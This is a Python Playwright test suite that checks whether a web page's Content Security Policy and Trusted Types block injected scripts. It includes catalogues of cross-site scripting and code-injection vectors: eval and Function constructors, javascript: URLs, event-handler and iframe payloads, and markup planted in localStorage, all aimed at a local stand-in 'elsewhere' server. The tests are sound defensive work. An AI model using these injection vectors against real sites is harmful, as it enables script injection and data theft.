"""Nothing that came as text ever runs: the page's policy, hosted and as one file, with Trusted Types and without.

The attacks are made in the page itself, in a task of their own: what a test evaluates directly is spared the policy.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Error, Page

from tests.browser.conftest import UNSTORED, Visit, ready
from tools.build import DIST
from tools.onefile import NAME
from tools.serve import Site, serving

GOT = "window.got = []"
"""What has got in says so there."""

CODE = {
    "eval": "eval(`got.push('{name}')`)",
    "indirect eval": "(0, eval)(`got.push('{name}')`)",
    "Function": "Function(`got.push('{name}')`)()",
    "new Function": "new Function(`got.push('{name}')`)()",
    "constructor": "(() => 0).constructor(`got.push('{name}')`)()",
    "asynchronous constructor": "(async () => 0).constructor(`got.push('{name}')`)()",
    "generator": "(function* () {{}}).constructor(`got.push('{name}')`)().next()",
    "timer": "setTimeout(`got.push('{name}')`)",
    "interval": "setInterval(`got.push('{name}')`)",
    "script with text": "add('script', {{text: `got.push('{name}')`}})",
    "script from data": "add('script', {{src: `data:text/javascript,got.push('{name}')`}})",
    "script from a blob": "add('script', {{src: blob(`got.push('{name}')`)}})",
    "script from elsewhere": "add('script', {{src: '{evil}x.js'}})",
    "module from data": "import(`data:text/javascript,got.push('{name}')`)",
    "module from a blob": "import(blob(`got.push('{name}')`))",
    "module from elsewhere": "import('{evil}x.js')",
    "worker from data": "talk(new Worker(`data:text/javascript,postMessage('{name}')`))",
    "worker from a blob": "talk(new Worker(blob(`postMessage('{name}')`)))",
    "worker of ours that is none": "talk(new Worker('./boot.js'))",
    "frame with text": "add('iframe', {{srcdoc: `<script>parent.got.push('{name}')</script>`}})",
    "frame from data": "add('iframe', {{src: '{evil}'}})",
    "frame of javascript": "add('iframe', {{src: `javascript:parent.got.push('{name}')`}})",
    "link of javascript": "add('a', {{href: `javascript:got.push('{name}')`}}).click()",
    "address of javascript": "location.href = `javascript:got.push('{name}')`",
    "handler": "const one = add('b', {{}}); one.setAttribute('onclick', `got.push('{name}')`); one.click()",
    "fragment": "document.body.append(fragment(`<script>got.push('{name}')</script>`))",
    "request": "fetch('{evil}')",
    "picture": "add('img', {{src: '{evil}'}})",
    "style": "add('b', {{}}).style.background = `url({evil})`",
    "font": "new FontFace('x', `url({evil})`).load().catch(() => {{}})",
    "form": "add('form', {{action: '{evil}', target: '_blank'}}).submit()",
    "written document": "document.write(`<script>got.push('{name}')</script>`)",
}

MARKUP = {
    "script": "<script>got.push('{name}')</script>",
    "script of Python": "<script type='py'>import js; js.got.push('{name}')</script>",
    "script of MicroPython": "<script type='mpy'>import js; js.got.push('{name}')</script>",
    "element of Python": "<py-script>import js; js.got.push('{name}')</py-script>",
    "element of MicroPython": "<mpy-script>import js; js.got.push('{name}')</mpy-script>",
    "listener of Python": "<b py-click='import js; js.got.push(\"{name}\")'>press</b>",
    "handler": "<img src='x:' onerror=\"got.push('{name}')\">",
    "handler of a drawing": "<svg onload=\"got.push('{name}')\"><animate onbegin=\"got.push('{name}')\" /></svg>",
    "frame with text": "<iframe srcdoc=\"<script>parent.got.push('{name}')</script>\"></iframe>",
    "frame": "<iframe src='{evil}'></iframe>",
    "link of javascript": "<a href=\"javascript:got.push('{name}')\">press</a>",
    "form": "<form action='{evil}'><button id='press'>press</button></form>",
    "style sheet": "<link rel='stylesheet' href='{evil}'>",
    "imported style": "<style>@import '{evil}';</style>",
    "style that loads": "<p style='background: url({evil}); list-style: url({evil})'>x</p>",
    "picture": "<img src='{evil}' srcset='{evil}' alt=''><video poster='{evil}' src='{evil}'></video>",
    "object": "<object data='{evil}'></object><embed src='{evil}'>",
    "base": "<base href='{evil}'><img src='x.png' alt=''>",
}
NEVER_OURS = [
    name for name in MARKUP if not re.search("handler|listener|javascript|form|loads|picture", name)
]
"""Our own page writes no such elements: where there are Trusted Types, they never become a part of it."""

LEAVING = "<meta http-equiv='refresh' content='0; url={evil}'>"
"""Nothing but Trusted Types holds this, and that nobody's text becomes HTML."""

UNHELD = {
    ("hosted", True): set(),
    ("hosted", False): set(),
    ("one file", True): {"module from a blob"},
    ("one file", False): {"module from a blob", "script from a blob", "worker from data"},
}
"""What a foreign script could do if one ran. In one file our own modules are blobs, our own workers data."""

RUN = ["script of Python", "handler", "frame with text", "link of javascript"]
LOADED = 8
"""What the other attempts ask for of elsewhere, or some of it: one goes before all has been asked for."""

ASKING = {
    *(
        "script from elsewhere",
        "module from elsewhere",
        "worker of ours that is none",
        "frame from data",
        "frame of javascript",
    ),
    *("address of javascript", "form", "request", "picture", "style", "font"),
}
"""These say nothing to the page itself."""

TOOLS = """
const blob = text => URL.createObjectURL(new Blob([text], {type: "text/javascript"}));
const add = (name, given) => {
    const one = Object.assign(document.createElement(name), given);
    document.body.append(one);
    return one;
};
const fragment = html => document.createRange().createContextualFragment(html);
const talk = worker => {
    worker.onmessage = ({data}) => got.push(data);
    worker.onerror = event => event.preventDefault();
};
const later = () => new Promise(done => setTimeout(done, 50));
const refused = [];
"""

ATTEMPT = """() => new Promise(done => setTimeout(async () => {{
    {tools}
    const attempts = {attempts};
    for (const [name, attempt] of attempts) try {{ await attempt(); }} catch (error) {{ refused.push(name) }}
    await later(); await later();
    for (const press of document.querySelectorAll("#screen b, #screen a, #screen button")) press.click();
    await later();
    done(refused);
}}))"""


@pytest.fixture(scope="module")
def elsewhere(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Somebody else's site: nothing may ever be asked of it."""
    folder = tmp_path_factory.mktemp("elsewhere")
    (folder / "index.html").write_text("<script>parent.got?.push('a page from elsewhere')</script>")
    (folder / "x.js").write_text("got.push('a script from elsewhere')")
    with serving(folder) as evil:
        yield evil


def without_trusted_types(page: str) -> str:
    """The page as a browser without them reads it."""
    weaker, count = re.subn(r"require-trusted-types-for 'script'; trusted-types [^;]*; ", "", page)
    assert count == 1
    return weaker


WATCHED = "Object.defineProperty(window, 'MutationObserver', {value: MutationObserver, writable: false})"
"""PyScript observes the page, whatever boot.js does about it."""

FORGOTTEN = "delete window.trustedTypes"


@pytest.fixture(params=["hosted", "one file"])
def edition(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(params=["with Trusted Types", "without"])
def types(request: pytest.FixtureRequest) -> bool:
    return bool(request.param == "with Trusted Types")


@pytest.fixture
def page(
    browser: Browser, edition: str, types: bool, editions: dict[tuple[str, bool], str], elsewhere: Site
) -> Iterator[Page]:
    """A started page of that edition, as it is, foreign names stored, or as a browser without Trusted Types has it."""
    context = browser.new_context(locale="en-GB")
    context.add_init_script(f"{UNSTORED};{GOT};{plant(elsewhere) if types else FORGOTTEN}")
    page = context.new_page()
    page.goto(editions[edition, types])
    ready(page)
    yield page
    context.close()


@pytest.fixture(scope="module")
def editions(site: Site, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[tuple[str, bool], str]]:
    """Where they lie: as they are, and for a browser without Trusted Types. `site` has been built by then."""
    weaker = copy_of_site(tmp_path_factory, without_trusted_types)
    with serving(weaker) as other:
        yield {
            ("hosted", True): site.url,
            ("hosted", False): other.url,
            ("one file", True): (DIST / NAME).as_uri(),
            ("one file", False): (weaker / NAME).as_uri(),
        }


def copy_of_site(tmp_path_factory: pytest.TempPathFactory, change: Callable[[str], str]) -> Path:
    """The built site with its two pages changed. Only what is really served may ask for what is on this machine."""
    folder = tmp_path_factory.mktemp("site") / "dist"
    shutil.copytree(DIST, folder)
    for name in ("index.html", NAME):
        page = folder / name
        page.write_text(change(page.read_text(encoding="utf-8")), encoding="utf-8")
    return folder


def plant(elsewhere: Site) -> str:
    """What a stranger may have put into the storage: everything that our page reads before Python, full of markup."""
    markup = "".join(MARKUP.values()).format(name="planted", evil=elsewhere.url)
    front = dict.fromkeys(("saved-games", "today"), markup)
    planted = {
        "tin.front": json.dumps(front),
        "tin.settings": json.dumps({"theme": markup, "language": markup, "name": markup}),
        "tin.strange": markup,
    }
    return f"try {{ Object.assign(localStorage, {json.dumps(planted)}) }} catch {{}}"


def attempt(page: Page, attempts: dict[str, str]) -> list[str]:
    """Make these attempts, each the body of a function; the names of those that met with an error."""
    listed = ", ".join(f"[{json.dumps(name)}, async () => {{ {body} }}]" for name, body in attempts.items())
    return list(page.evaluate(ATTEMPT.format(tools=TOOLS, attempts=f"[{listed}]")))


def fill_in(texts: dict[str, str], elsewhere: Site) -> dict[str, str]:
    return {name: text.format(name=name, evil=elsewhere.url) for name, text in texts.items()}


def in_page(markup: str) -> str:
    """Put markup into the page, as our own drawings are put there."""
    return f"const box = document.getElementById('screen'); box.hidden = false; box.innerHTML = {json.dumps(markup)}"


def test_nothing_gets_in(page: Page, elsewhere: Site, edition: str, types: bool) -> None:
    """No text becomes a script, no markup runs, loads or leads away; what is only a text stays one."""
    elsewhere.log.clear()
    url = page.url
    for name, markup in fill_in(MARKUP, elsewhere).items():
        refused = attempt(page, {name: in_page(markup)})
        assert bool(refused) == (types and name in NEVER_OURS), name
    if types:
        assert attempt(page, {"leaving": in_page(LEAVING.format(evil=elsewhere.url))}) == ["leaving"]
    assert attempt(page, {"text": in_page("&lt;script> and <b>more</b>, see <meter></meter>")}) == []
    assert page.text_content("#screen") == "<script> and more, see "
    assert page.evaluate("got") == []
    attempt(page, fill_in(CODE, elsewhere))
    assert set(page.evaluate("got")) == UNHELD[edition, types]
    assert elsewhere.log == []
    assert page.url == url


def test_the_attempts_are_real(
    browser: Browser, site: Site, elsewhere: Site, tmp_path_factory: pytest.TempPathFactory
) -> None:
    """In a page without a policy, watched by PyScript, they get in: what the other tests try could happen."""
    bare = copy_of_site(tmp_path_factory, lambda page: re.sub("<meta http-equiv[^>]*>", "", page, count=1))
    context = browser.new_context()
    context.add_init_script(f"{UNSTORED};{GOT};{FORGOTTEN};{WATCHED}")
    with serving(bare) as unguarded:
        page = context.new_page()
        page.goto(unguarded.url)
        ready(page)
        elsewhere.log.clear()
        for name, markup in fill_in(MARKUP, elsewhere).items():
            attempt(page, {name: in_page(markup)})
            if name in RUN:
                page.wait_for_function("name => got.includes(name)", arg=name)
        assert len(elsewhere.log) >= LOADED
        attempt(page, fill_in(CODE, elsewhere))
        for name in CODE.keys() - ASKING:
            page.wait_for_function("name => got.includes(name)", arg=name)
        assert "/x.js" in dict(elsewhere.log)
    context.close()


def test_no_text_becomes_a_script_in_a_worker(site: Site, visit: Visit) -> None:
    """What the test itself asks a worker it would ask by `eval`."""
    page = visit("#/", fresh=True)
    said: list[str] = []
    page.on("console", lambda one: said.append(one.text))
    with page.expect_worker(lambda worker: worker.url.endswith("bot-worker.mjs")) as started:
        page.evaluate("tin.startWorker().then(worker => worker.ready)")
    with pytest.raises(Error, match="No text becomes a script"):
        started.value.evaluate("1 + 1")
    assert not [one for one in said if "from scratch" in one], "its Python needs none of it"
